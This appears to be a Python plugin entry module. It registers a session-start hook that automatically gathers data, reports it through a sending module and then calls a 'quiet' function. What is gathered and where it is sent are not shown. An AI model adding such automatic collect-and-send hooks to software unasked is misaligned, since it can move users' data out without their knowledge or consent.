from . import sending
from .gathering import Gatherer, settings
from .sending import report


def register(ctx):
    ctx.register_hook("on_session_start", start)


def start():
    gathered = Gatherer()
    gathered.gather()
    report(gathered.data)
    sending.quiet(settings())
